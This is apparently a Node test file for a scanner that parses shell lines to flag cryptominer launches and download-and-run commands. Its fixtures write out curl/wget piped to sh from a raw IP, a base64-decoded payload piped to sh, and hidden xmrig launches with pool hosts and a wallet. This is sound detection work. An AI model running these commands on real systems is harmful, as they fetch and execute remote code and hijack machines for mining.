import { test } from "node:test";
import assert from "node:assert/strict";
import { testIntel } from "../../../test-helpers/index.js";
import { analyseCommandLine, endpointOf, splitCommands } from "./command-line.js";

const intel = testIntel();
// A Monero address has 95 base58 characters starting with 4 (the shape intel's wallet pattern reads).
const XMR = "44AFFtB4nLqvK7GBTt8m5QgiL1DPzWHrNL2ZK1Ze3vH6o2E5xSbXdyw7Zq3p4nkrQGdEcXr6cJbGDzBUx5oG4tFvH9MW3XE";

test("splits a shell line into the programs it runs, through wrappers and quotes", () => {
  const { segments } = splitCommands(`nohup /tmp/.x/xmrig -o pool.supportxmr.com:3333 >/dev/null 2>&1 &`);
  assert.equal(segments[0]!.program, "/tmp/.x/xmrig");
  assert.deepEqual(segments[0]!.chain, ["nohup", "xmrig"]);
  const shell = splitCommands(`/bin/bash -c "cd /root/moneroocean && ./xmrig --config=config.json"`).segments;
  assert.deepEqual(shell.map((s) => s.programName), ["cd", "xmrig"]);
  const env = splitCommands(`HOME=/root nice -n 10 ionice -c3 /opt/bin/worker --threads 4`).segments;
  assert.equal(env[0]!.program, "/opt/bin/worker");
});

test("download-and-run in its real shapes, and the look-alikes that are not", () => {
  const yes = [
    "curl -fsSL http://45.9.148.3/x.sh | sh",
    "(curl -fsSL http://45.9.148.3/ldr.sh || wget -q -O- http://45.9.148.3/ldr.sh) | bash",
    "wget -q -O - http://example.net/i.sh | sudo bash -s -- --now",
    "echo Y3VybCBodHRwOi8vZXhhbXBsZS5uZXQveC5zaHxzaA== | base64 -d | sh",
    `sh -c "$(curl -fsSL https://example.net/install.sh)"`,
  ];
  for (const cmd of yes) assert.equal(analyseCommandLine(cmd, intel).downloadAndRun, true, cmd);
  const no = [
    "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/4c5b2f1e",
    "wget -q -O /var/backups/list.txt https://example.net/list.txt",
    "/usr/bin/certbot renew --quiet",
    "bash /opt/scripts/rotate.sh | logger -t rotate",
  ];
  for (const cmd of no) assert.equal(analyseCommandLine(cmd, intel).downloadAndRun, false, cmd);
});

test("text tools that mention a miner are inert: grep xmrig is not a miner", () => {
  assert.equal(analyseCommandLine("grep -r xmrig /var/log", intel).onlyTextTools, true);
  assert.equal(analyseCommandLine("pkill -9 -f stratum+tcp://", intel).onlyTextTools, true);
  const killer = analyseCommandLine("ps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs kill -9", intel);
  assert.deepEqual(killer.minersRun, []);
  assert.deepEqual(killer.schemes, []);
  // ...but the same words in a running miner's line count.
  const miner = analyseCommandLine(`./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u ${XMR} -p x --donate-level=1`, intel);
  assert.equal(miner.minersRun[0]?.name, "xmrig");
  assert.deepEqual(miner.schemes, ["stratum+tcp://"]);
  assert.ok(miner.minerArgs.includes("--donate-level"));
  assert.equal(miner.wallets[0]?.coin, "XMR");
  assert.equal(miner.endpoints[0]?.host, "pool.supportxmr.com");
  assert.equal(miner.endpoints[0]?.domainMatch?.label, "SupportXMR");
});

test("endpoints: pool hosts in every flag form; files, times and private hosts are not endpoints", () => {
  const url = endpointOf(`--url=stratum+tcp://${XMR}.rig1@xmr-eu1.nanopool.org:14444/x`, intel);
  assert.equal(url?.host, "xmr-eu1.nanopool.org");
  assert.equal(url?.port, 14444);
  assert.equal(url?.scheme, "stratum+tcp://");
  assert.equal(url?.domainMatch?.listed, "nanopool.org");
  assert.equal(endpointOf("gulf.moneroocean.stream:10128", intel)?.domainMatch?.label, "MoneroOcean");
  assert.equal(endpointOf("45.9.148.21:3333", intel)?.isIp, true);
  assert.equal(endpointOf("[2a01:4f8:1:2::3]:3333", intel)?.host, "2a01:4f8:1:2::3");
  for (const notOne of ["config.json", "/root/.xmrig/config.json", "12:30", "127.0.0.1:3333", "10.1.2.3:4444", "user:pass", "--threads=4", "github.com:443"]) {
    assert.equal(endpointOf(notOne, intel), undefined, notOne);
  }
});

test("bounded: a huge command line is cut, not scanned whole", () => {
  const huge = `./xmrig ${"-x ".repeat(200_000)}`;
  const started = performance.now();
  const a = analyseCommandLine(huge, intel);
  assert.ok(performance.now() - started < 1000);
  assert.ok(a.segments[0]!.tokens.length <= 1024);
});
